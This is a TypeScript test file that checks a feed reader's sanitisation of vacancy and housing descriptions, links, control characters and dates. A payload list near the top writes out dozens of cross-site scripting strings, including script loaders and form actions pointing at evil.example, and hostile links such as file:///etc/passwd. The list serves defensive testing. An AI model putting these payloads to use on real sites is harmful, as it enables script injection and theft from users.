import { readFileSync } from 'node:fs';
import path from 'node:path';
import type { Home, Vacancy } from '@mitn/domain';
import { findRealFeeds } from '@mitn/testing/real-feeds';
import { describe, expect, it } from '@jest/globals';
import sanitizeHtml from 'sanitize-html';
import { feedFormat } from '../formats/feed-formats.js';
import { readItem } from '../item/read-item.js';
import { cleanDescription } from './clean-description.js';
import { safeLink } from './safe-link.js';

const CLOCK = { now: new Date('2026-06-01T10:00:00Z'), asOf: '2026-06-01' };
const PAYLOADS = [
  '<script>alert(1)</script>', '<ScRiPt>alert(1)</sCrIpT>', '<script src=//evil.example/x.js></script>', '<scr<script>ipt>alert(1)</scr</script>ipt>', '<img src=x onerror=alert(1)>', '<img/src=x/onerror=alert(1)>',
  '<svg onload=alert(1)>', '<svg><script>alert(1)</script></svg>', '<svg><animate onbegin=alert(1) attributeName=x></svg>', '<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
  '<iframe src="javascript:alert(1)"></iframe>', '<iframe srcdoc="<script>alert(1)</script>"></iframe>', '<object data="javascript:alert(1)"></object>', '<embed src="javascript:alert(1)">', '<a href="javascript:alert(1)">x</a>',
  '<a href="java\tscript:alert(1)">x</a>', '<a href="&#106;avascript:alert(1)">x</a>', '<a href="data:text/html,<script>alert(1)</script>">x</a>', '<a href="//evil.example">x</a>', '<a href="vbscript:msgbox(1)">x</a>',
  '<body onload=alert(1)>', '<p onclick="alert(1)">x</p>', '<p style="background:url(javascript:alert(1))">x</p>', '<p style="position:fixed;inset:0">x</p>', '<strong onmouseover=alert(1)>x</strong>', '<li onfocus=alert(1) tabindex=1 autofocus>x</li>',
  '<link rel=stylesheet href="//evil.example/x.css">', '<style>@import "//evil.example/x.css";</style>', '<style><img src="</style><img src=x onerror=alert(1)>">', '<meta http-equiv=refresh content="0;url=//evil.example">', '<base href="//evil.example/">',
  '<form action="//evil.example"><input name=a><button>go</button></form>', '<input onfocus=alert(1) autofocus>', '<select onfocus=alert(1) autofocus>', '<textarea autofocus onfocus=alert(1)>', '<keygen onfocus=alert(1)>', '<video src=x onerror=alert(1)>',
  '<audio src=x onerror=alert(1)>', '<video><source onerror=alert(1)>', '<details open ontoggle=alert(1)>', '<marquee onstart=alert(1)>', '<template><script>alert(1)</script></template>', '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<!--><img src=x onerror=alert(1)>-->', '<![CDATA[<img src=x onerror=alert(1)>]]>', '<!doctype html><script>alert(1)</script>', '<?xml version="1.0"?><script>alert(1)</script>', '"><script>alert(1)</script>', "'><img src=x onerror=alert(1)>",
  '</p></div><script>alert(1)</script>', '</script><script>alert(1)</script>', '<<script>alert(1)//<</script>', '<img src="x` `<script>alert(1)</script>"` `>', '<a\u0000href="javascript:alert(1)">x</a>', '<\u0000script>alert(1)</script>',
  '[x](javascript:alert(1))', '![x](javascript:alert(1))', '[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)', '<javascript:alert(1)>', '[x]: javascript:alert(1)\n[x]', '{{constructor.constructor("alert(1)")()}}', '${alert(1)}', '<x-foo onclick=alert(1)>x</x-foo>',
  '&lt;script&gt;alert(1)&lt;/script&gt;', '&amp;lt;script&amp;gt;', '<table background="javascript:alert(1)"><tr><td>x</td></tr></table>', '<font color="red" onclick=alert(1)>x</font>', '<portal src="//evil.example"></portal>',
];
const TAG = /<(?!\/?(?:p|ul|ol|li|strong|em|h3|h4)>|br \/>)/;

function vacancyWith(text: string) {
  const item = {
    id: `id ${text}`, title: text, description: text, organisation: { name: text, website: text }, place: { name: text.slice(0, 200) || 'x' }, url: text, applyUrl: text, occupation: text, skills: [text.slice(0, 100)], workingLanguage: text.slice(0, 40),
  };
  return (['text', 'html', 'markdown'] as const).map((descriptionFormat) => readItem<Vacancy>(feedFormat('vacancies', 'mitn'), { index: 0, value: { ...item, descriptionFormat }, excerpt: '', problem: null }, CLOCK));
}

function expectHarmless(text: string): void {
  for (const item of vacancyWith(text)) {
    if (!item.accepted) continue;
    const { value } = item;
    expect(value.descriptionHtml).not.toMatch(TAG);
    // Cleaning what is clean changes nothing: the browser reads the same tree that was checked.
    expect(sanitizeHtml(value.descriptionHtml, { allowedTags: ['p', 'ul', 'ol', 'li', 'strong', 'em', 'h3', 'h4', 'br'], allowedAttributes: {} })).toBe(value.descriptionHtml);
    for (const link of [value.applyUrl, item.url, value.organisation.website]) if (link !== null) expect(link).toMatch(/^https?:\/\/[^@]+$/);
    expect([value.title, value.organisation.name, value.occupation ?? ''].join('')).not.toMatch(/[\p{Cc}\u202a-\u202e\u2066-\u2069]/u);
  }
}

describe('49 hostile texts come out harmless', () => {
  it.each(PAYLOADS)('49 %j', (payload) => {
    expectHarmless(payload);
    expectHarmless(`Good text before.\n\n${payload}\n\nGood text after.`);
  });

  it('49 text stays readable', () => {
    expect(cleanDescription({ kind: 'html', text: '<p>3 < 4 & 5 > 2</p><p onclick=x>Work <b>well</b></p>' })).toEqual({ html: '<p>3 &lt; 4 &amp; 5 &gt; 2</p><p>Work <strong>well</strong></p>', text: '3 < 4 & 5 > 2\n\nWork well' });
    expect(cleanDescription({ kind: 'text', text: 'a <b> c & d' })).toEqual({ html: '<p>a &lt;b&gt; c &amp; d</p>', text: 'a <b> c & d' });
    expect(cleanDescription({ kind: 'html', text: '&lt;script&gt;' })).toEqual({ html: '&lt;script&gt;', text: '<script>' });
  });

  it('49 endless nesting and endless text are cut, not followed', () => {
    const started = Date.now();
    for (const kind of ['html', 'markdown'] as const) {
      expect(cleanDescription({ kind, text: '<div>'.repeat(50_000) }).html).not.toMatch(TAG);
      expect(cleanDescription({ kind, text: '> '.repeat(50_000) }).html).not.toMatch(TAG);
      expect(cleanDescription({ kind, text: '*a_'.repeat(50_000) }).text.length).toBeLessThanOrEqual(60_000);
    }
    expect(Date.now() - started).toBeLessThan(20_000);
  });

  const folder = findRealFeeds('naughty-strings/blns.json');
  (folder === null ? it.skip : it)('49 the big list of naughty strings', () => {
    const strings = JSON.parse(readFileSync(path.join(folder ?? '', 'naughty-strings/blns.json'), 'utf8')) as string[];
    expect(strings.length).toBeGreaterThan(400);
    for (const text of strings) expectHarmless(text);
  });
});

describe('50 links that are no plain web address are not links', () => {
  it.each([
    'javascript:alert(1)', ' javascript:alert(1)', 'JaVaScRiPt:alert(1)', 'java\nscript:alert(1)', 'data:text/html,x', '//evil.example', '/\\evil.example', 'https:\\\\evil.example', 'https:/evil.example', 'https:evil.example', 'ftp://example.org', 'file:///etc/passwd',
    'https://user:secret@example.org/', 'https://example.org@evil.example/', 'https://user@example.org', 'mailto:a@example.org', 'https://', 'http:///x', 'https://localhost/', 'https://exam ple.org/', 'https://example.org/\u202Efdp', 'https://1.2.3.4/', 'x', '', null,
    `https://example.org/${'x'.repeat(3_000)}`,
  ])('50 %j', (text) => {
    expect(safeLink(text)).toBeNull();
  });

  it('50 a look-alike host is shown for what it is', () => {
    expect(safeLink('https://ex\u0430mple.org/jobs')).toBe('https://xn--exmple-4nf.org/jobs');
  });

  it('50 plain addresses stay', () => {
    expect(safeLink(' HTTPS://Example.org/Jobs?a=1&b=2#x ')).toBe('https://example.org/Jobs?a=1&b=2#x');
    expect(safeLink('http://jobs.example.org:8080/')).toBe('http://jobs.example.org:8080/');
  });
});

describe('44 broken texts are read or refused one by one', () => {
  const read = (value: object) => readItem<Home>(feedFormat('homes', 'mitn'), { index: 3, value, excerpt: 'x', problem: null }, CLOCK);
  const home = { id: 'h', type: 'room', place: { name: 'Groningen' }, rent: { totalEurPerMonth: 400 } };

  it('44 NUL, other controls and marks of byte order and direction are taken out', () => {
    expect(read({ ...home, title: '\ufeffNice\u0000 \u202eroom\u0007', description: 'a\u0000b\r\nc' })).toMatchObject({ accepted: true, value: { title: 'Nice room', descriptionText: 'ab\nc' } });
  });

  it('44 lone surrogates are refused with the reason, and the item can be found', () => {
    expect(read({ ...home, description: 'half \ud800 a character' })).toEqual({ accepted: false, index: 3, externalId: 'h', code: 'text-broken', reason: expect.stringContaining('lone surrogate'), excerpt: 'x' });
    expect(read({ ...home, id: '\ud800' })).toMatchObject({ accepted: false, externalId: null });
  });

  it.each([null, 5, 'text', [], [{}]])('44 %j is no item', (value) => {
    expect(readItem(feedFormat('homes', 'kamernet'), { index: 0, value, excerpt: '', problem: null }, CLOCK)).toMatchObject({ accepted: false, code: 'not-an-object' });
  });

  it.each([{}, { id: {} }, { id: 'x', type: [], rent_eur: {}, details: 5 }, { id: 'x', type: 'kamer', rent_eur: 1e308 }, { id: 'x', type: 'kamer', rent_eur: -5 }, JSON.parse('{"__proto__":{"id":"x"},"constructor":1}') as object])('44 the shapeless item %j is refused, not thrown', (value) => {
    for (const [kind, format] of [['homes', 'kamernet'], ['homes', 'mitn'], ['vacancies', 'jobspy'], ['vacancies', 'mitn']] as const) {
      expect(readItem(feedFormat(kind, format), { index: 0, value, excerpt: '', problem: null }, CLOCK)).toMatchObject({ accepted: false, code: expect.stringMatching(/^[a-z-]+$/) });
    }
  });
});

describe('45 dates that cannot be right', () => {
  const vacancy = (dates: object) => readItem<Vacancy>(feedFormat('vacancies', 'mitn'), { index: 0, value: { id: 'v', title: 'Cook', organisation: { name: 'Inn' }, ...dates }, excerpt: '', problem: null }, CLOCK);
  it.each([
    ['31 February', { applyUntil: '2026-02-31' }, 'date-impossible'], ['the year 0001', { postedOn: '0001-01-01' }, 'date-impossible'], ['the year 9999', { applyUntil: '9999-12-31' }, 'date-impossible'],
    ['an instant in the year 0001', { postedOn: '0001-01-01T00:00:00Z' }, 'date-impossible'], ['words', { startOn: 'as soon as possible' }, 'date-impossible'], ['31-02 as the Dutch write it', { startOn: '31-02-2026' }, 'date-impossible'],
    ['25 hours', { postedOn: '2026-05-01T25:00:00Z' }, 'date-impossible'], ['a closing date in the past', { applyUntil: '2026-05-31' }, 'apply-until-past'], ['posted in the future', { postedOn: '2026-06-03' }, 'posted-in-future'],
    ['closed before it was posted', { postedOn: '2026-06-02', applyUntil: '2026-06-01' }, 'ends-before-posted'],
  ])('45 %s', (_, dates, code) => {
    expect(vacancy(dates)).toMatchObject({ accepted: false, code, externalId: 'v' });
  });

  it('45 a time without a zone is read as Dutch local time and flagged', () => {
    expect(vacancy({ postedOn: '2026-05-01T23:30:00' })).toMatchObject({ accepted: true, value: { postedOn: '2026-05-01' }, flags: [{ code: 'date-without-zone' }] });
    expect(vacancy({ postedOn: '2026-05-01T23:30:00Z' })).toMatchObject({ accepted: true, value: { postedOn: '2026-05-02' }, flags: [] });
  });

  it('45 what is open today, and what begins later, goes in', () => {
    expect(vacancy({ applyUntil: '2026-06-01', startOn: '2027-01-01' })).toMatchObject({ accepted: true });
  });
});
